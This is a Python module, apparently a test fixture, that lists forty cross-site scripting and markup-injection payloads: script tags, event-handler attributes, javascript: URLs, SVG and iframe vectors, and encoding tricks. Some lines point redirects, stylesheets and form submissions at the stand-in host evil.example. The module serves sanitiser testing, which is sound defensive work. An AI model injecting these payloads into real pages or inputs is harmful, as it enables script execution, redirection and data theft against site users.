"""Forty texts that try to become markup, script or style; each would set the document's title to PWNED if it ran."""

from __future__ import annotations

_RUN = "document.title='PWNED';alert(1)"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</code></pre><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN.replace(chr(39), chr(34))}'>",
    f"<svg onload={_RUN}>",
    f'<svg/onload="{_RUN}"/>',
    f"</svg><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f'<a href="javascript:{_RUN}">x</a>',
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN.replace(chr(39), chr(34))}' x='",
    f'" autofocus onfocus="{_RUN}" tabindex=1 "',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f'<iframe src="javascript:parent.{_RUN}">',
    f'<object data="javascript:{_RUN}">',
    f'<embed src="javascript:{_RUN}">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input autofocus></form>",
    f"<body onload={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<style>@import 'https://evil.example';</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"{{{{ ''.__class__.__mro__ }}}}{{% raw %}}<script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\x00<scr\x00ipt>{_RUN}</scr\x00ipt>\x1b]0;PWNED\x07",
    f"\u202e<script>{_RUN}</script>\u2028\ud800",
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 40
